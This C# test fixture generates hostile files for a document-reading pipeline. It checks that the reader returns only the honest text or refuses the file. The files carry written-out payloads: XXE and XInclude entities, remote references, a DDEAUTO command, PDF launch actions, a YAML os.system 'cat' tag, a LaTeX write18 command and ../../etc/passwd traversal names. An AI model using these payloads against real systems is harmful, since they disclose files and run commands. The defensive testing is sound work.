using System.Text;
using Pipeline.Documents.Reading;
using Pipeline.Documents.Tests.Fixtures;
using static Pipeline.Documents.Tests.Hostile.HostileFile;
using static Pipeline.Documents.Tests.Hostile.HostileParts;

namespace Pipeline.Documents.Tests.Hostile;

/// <summary>Files that ask their reader to open another file, to call an address, to run something, or to write
/// where it should not. They hold text of their own, which is found.</summary>
internal static class LureFiles
{
    private const int Link = 0xA1FF;
    private const string Text = "honest text";

    private static readonly ReadFailure[] Refusals =
    [
        ReadFailure.Damaged,
        ReadFailure.Empty,
        ReadFailure.UnsupportedType,
        ReadFailure.WrongType,
    ];

    /// <summary>The files.</summary>
    /// <param name="secret">A file that must not be read.</param>
    /// <param name="address">An address that must not be called.</param>
    public static IEnumerable<HostileFile> All(string secret, string address) =>
        [
            .. Entities(secret, address),
            .. References(secret, address),
            .. Names(),
            .. Links(secret),
            .. Macros(),
            .. FileNames(),
        ];

    private static IEnumerable<HostileFile> Entities(string secret, string address)
    {
        var file = new Uri(secret).AbsoluteUri;
        foreach (
            var (how, prologue) in new[]
            {
                ("an entity of a file", $"<!DOCTYPE a [<!ENTITY x SYSTEM \"{file}\">]>"),
                ("an entity of an address", $"<!DOCTYPE a [<!ENTITY x SYSTEM \"{address}/e\">]>"),
                ("a type of an address", $"<!DOCTYPE a SYSTEM \"{address}/a.dtd\" [<!ENTITY x \"\">]>"),
                (
                    "parameters",
                    $"<!DOCTYPE a [<!ENTITY % f SYSTEM \"{file}\"><!ENTITY % d SYSTEM \"{address}/d\">%d;<!ENTITY x \"\">]>"
                ),
            }
        )
        {
            foreach (var name in (string[])["a.docx", "a.xlsx", "a.pptx", "a.odt", "a.hwpx", "a.epub"])
            {
                yield return Either($"{how} {name}", InEveryPart(name, prologue, "&x;"), Refusals);
            }

            foreach (var ending in (string[])["xml", "rss", "svg", "html", "xhtml", "vtt", "txt", "md"])
            {
                yield return Either(
                    $"{how}.{ending}",
                    Encoding.UTF8.GetBytes(
                        $"<?xml version=\"1.0\"?>{prologue}<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><title>{Text}</title>"
                            + $"<p>&x;<xi:include href=\"{file}\" parse=\"text\"/></p></a>"
                    ),
                    Refusals
                );
            }
        }
    }

    private static IEnumerable<HostileFile> References(string secret, string address)
    {
        var file = new Uri(secret).AbsoluteUri;
        var html =
            $"<html><head><base href=\"{address}/\"><link rel=stylesheet href=\"{address}/c\"><meta http-equiv=refresh content=\"0;url={address}/r\">"
            + $"<style>@import url({address}/s)</style></head><body><p>{Text}</p><img src=\"{address}/i\"><iframe src=\"{file}\"></iframe>"
            + $"<object data=\"{address}/o\"></object><script src=\"{address}/j\"></script><video src=\"{address}/v\"></video>"
            + $"<svg><image href=\"{address}/g\"/><use href=\"{file}#a\"/></svg></body></html>";
        yield return Read("pictures and frames.html", Encoding.UTF8.GetBytes(html), Text);
        yield return Read(
            "pictures.md",
            Encoding.UTF8.GetBytes($"{Text} ![a]({address}/i) [b]({file})\n\n<img src=\"{address}/j\">"),
            Text
        );
        yield return Read(
            "pictures.eml",
            Encoding.UTF8.GetBytes(
                "MIME-Version: 1.0\nSubject: x\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n"
                    + $"{html}\n--b\nContent-Type: message/external-body; access-type=URL; URL=\"{address}/x\"\n\nContent-Type: text/plain\n\n--b--\n"
            ),
            Text
        );
        yield return Read("a chapter.epub", Epubs.Of(html), Text);
        yield return Read(
            "fields.rtf",
            Encoding.UTF8.GetBytes(
                "{\\rtf1 "
                    + Text
                    + "{\\field{\\*\\fldinst INCLUDETEXT \""
                    + file
                    + "\"}{\\fldrslt x}}{\\*\\template "
                    + address
                    + "/t}{\\object\\objautlink{\\*\\objdata 0105}}}"
            ),
            Text
        );
        yield return Read(
            "parts elsewhere.docx",
            Docxs.Zip(
                (
                    "_rels/.rels",
                    Pptxs.Relationships(
                        ("r", "officeDocument", "word/document.xml"),
                        ("t", "attachedTemplate", address + "/t")
                    )
                ),
                (
                    "word/_rels/document.xml.rels",
                    "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                        + string.Concat(
                            (
                                (string[])
                                    [
                                        "footnotes",
                                        "header",
                                        "styles",
                                        "image",
                                        "aFChunk",
                                        "attachedTemplate",
                                        "oleObject",
                                    ]
                            ).SelectMany(kind =>
                                new[] { address + "/" + kind, file, "../../../../../../../.." + secret }.Select(
                                    (target, i) =>
                                        $"<Relationship Id=\"{kind}{i}\" Target=\"{target}\" Type=\"urn:relationships/{kind}\""
                                        + (i < 2 ? " TargetMode=\"External\"/>" : "/>")
                                )
                            )
                        )
                        + "</Relationships>"
                ),
                (
                    "word/document.xml",
                    "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"urn:a/relationships\"><w:body>"
                        + $"<w:p><w:r><w:t>{Text}</w:t></w:r></w:p><w:p><w:r><w:instrText>DDEAUTO cmd \"/c {secret}\"</w:instrText></w:r></w:p>"
                        + "<w:altChunk r:id=\"aFChunk0\"/><w:altChunk r:id=\"aFChunk2\"/></w:body></w:document>"
                )
            ),
            Text
        );
        yield return Read(
            "a sheet that calls.xlsx",
            Xlsxs.Of(
                (
                    "S",
                    $"<sheetData><row r=\"1\"><c r=\"A1\"><f>WEBSERVICE(\"{address}/w\")</f><v>1</v></c><c r=\"B1\" t=\"inlineStr\"><is><t>{Text}</t></is></c></row></sheetData>"
                )
            ),
            Text
        );
        yield return Read(
            "a frame elsewhere.odt",
            Odfs.Text(
                $"<text:p>{Text}<draw:frame><draw:image xmlns:xlink=\"http://www.w3.org/1999/xlink\" xlink:href=\"{address}/i\"/>"
                    + $"<draw:object xmlns:xlink=\"http://www.w3.org/1999/xlink\" xlink:href=\"../../../..{secret}\"/></draw:frame></text:p>"
            ),
            Text
        );
        yield return Either(
            "an action on opening.pdf",
            Pdf(
                $"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI ({address}/u) >> /AA << /WC << /S /JavaScript /JS (app.launchURL\\('{address}/j'\\)) >> >> >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                $"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents << /F ({secret}) /Length 0 >> /AA << /O << /S /Launch /F ({secret}) >> >> >>"
            ),
            Refusals
        );
        yield return Either(
            "included.adoc",
            Encoding.UTF8.GetBytes($"= {Text}\n\ninclude::{secret}[]\n\nimage::{address}/i[]\n")
        );
        yield return Either(
            "included.rst",
            Encoding.UTF8.GetBytes($"{Text}\n\n.. include:: {secret}\n\n.. raw:: html\n   :url: {address}/r\n")
        );
        yield return Either(
            "included.tex",
            Encoding.UTF8.GetBytes($"\\section{{{Text}}}\n\\input{{{secret}}}\n\\immediate\\write18{{cat {secret}}}\n")
        );
        yield return Either(
            "included.org",
            Encoding.UTF8.GetBytes($"* {Text}\n#+INCLUDE: \"{secret}\"\n#+SETUPFILE: {address}/s\n")
        );
        yield return Either(
            "tags.yaml",
            Encoding.UTF8.GetBytes(
                $"a: !!python/object/apply:os.system [\"cat {secret}\"]\nb: !include {secret}\nc: {Text}\n"
            )
        );
    }

    private static IEnumerable<HostileFile> Names()
    {
        foreach (
            var name in (string[])
                [
                    "../../../../../../etc/cron.d/a.txt",
                    "..\\..\\..\\Windows\\a.txt",
                    "/etc/a.txt",
                    "C:\\a.txt",
                    "\\\\server\\share\\a.txt",
                    "a\0b.txt",
                    "a\u202Etxt.exe.txt",
                    "\u202Efdp.txt",
                    "CON.txt",
                    "aux",
                    "a:stream.txt",
                    "<script>alert(1)</script>.txt",
                    "a\n\n# injected.txt",
                    "\u001b[2Ja.txt",
                    " .txt",
                    "a/" + new string('b', 60_000) + ".txt",
                    string.Concat(Enumerable.Repeat("d/", 20_000)) + "a.txt",
                    "\uD800.txt",
                    "./././a.txt",
                    "a//b///c.txt",
                ]
        )
        {
            yield return Either(
                $"a part named {name[..Math.Min(name.Length, 40)]}.zip",
                Zip((name, Encoding.UTF8.GetBytes(Text))),
                Refusals
            ) with
            {
                FileName = "a.zip",
            };
            if (!name.Contains('\0') && name.Length < 1000)
            {
                var attached =
                    "MIME-Version: 1.0\nSubject: x\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Disposition: attachment; "
                    + $"filename*=utf-8''{Uri.EscapeDataString(name.Replace('\uD800', '?'))}\n\n{Text}\n--b--\n";
                yield return Read(
                    $"an attachment named {name[..Math.Min(name.Length, 40)]}.eml",
                    Encoding.UTF8.GetBytes(attached),
                    Text
                ) with
                {
                    FileName = "a.eml",
                };
            }
        }
    }

    private static IEnumerable<HostileFile> Links(string secret)
    {
        yield return Either("a link.zip", Zip(Link, ("a.txt", Encoding.UTF8.GetBytes(secret))), Refusals);
        yield return Either(
            "a link and a file behind it.zip",
            Zip(
                Link,
                ("a", Encoding.UTF8.GetBytes(Path.GetDirectoryName(secret)!)),
                ("a/" + Path.GetFileName(secret), "x"u8.ToArray())
            ),
            Refusals
        );
        yield return Either("a link to itself.zip", Zip(Link, ("a.txt", "a.txt"u8.ToArray())), Refusals);
        yield return Either("a device.zip", Zip(0x21B6, ("dev/zero", "x"u8.ToArray())), Refusals);
        yield return Either("a link.docx", Zip(Link, ("word/document.xml", Encoding.UTF8.GetBytes(secret))), Refusals);
    }

    private static IEnumerable<HostileFile> Macros()
    {
        var project = Compounds.Of(
            ("VBA/dir", new byte[5000]),
            ("VBA/ThisDocument", Encoding.UTF8.GetBytes("Sub AutoOpen()"))
        );
        var text = Encoding.UTF8.GetBytes(
            $"<w:document xmlns:w=\"urn:w\"><w:body><w:p><w:r><w:t>{Text}</w:t></w:r></w:p></w:body></w:document>"
        );
        var relationships = Encoding.UTF8.GetBytes(Pptxs.Relationships(("r", "officeDocument", "word/document.xml")));
        yield return Read(
            "macros.docm",
            Zip(("_rels/.rels", relationships), ("word/document.xml", text), ("word/vbaProject.bin", project)),
            Text
        );
        yield return Either("a project alone.doc", project, Refusals);
        yield return Either("macros.hwp", Hwps.Of(0, Hwps.Full), Refusals);
        yield return Either(
            "a program in an archive.zip",
            Zip(("a.exe", "MZ\0\0"u8.ToArray()), ("a.js", "alert(1)"u8.ToArray())),
            Refusals
        );
        yield return new(
            "a program.exe",
            [.. "MZ"u8, .. new byte[100]],
            ReadFailure.UnsupportedType,
            ReadFailure.WrongEncoding,
            ReadFailure.WrongType
        );
        yield return new(
            "a program.pdf",
            [0x7F, .. "ELF"u8, .. new byte[100]],
            ReadFailure.UnsupportedType,
            ReadFailure.WrongType
        );
    }

    // The name that a file is submitted under is no path, whatever it says.
    private static IEnumerable<HostileFile> FileNames()
    {
        foreach (
            var name in (string[])
                [
                    "../../etc/passwd",
                    "/etc/passwd",
                    "a\0.pdf.txt",
                    "con",
                    "..",
                    "",
                    ".",
                    new string('a', 100_000) + ".txt",
                    "a.txt\u202Efdp",
                    "x.\u0000html",
                ]
        )
        {
            yield return Either(
                $"a text named {name[..Math.Min(name.Length, 20)]}",
                Encoding.UTF8.GetBytes(Text),
                Refusals
            ) with
            {
                FileName = name,
            };
        }
    }
}
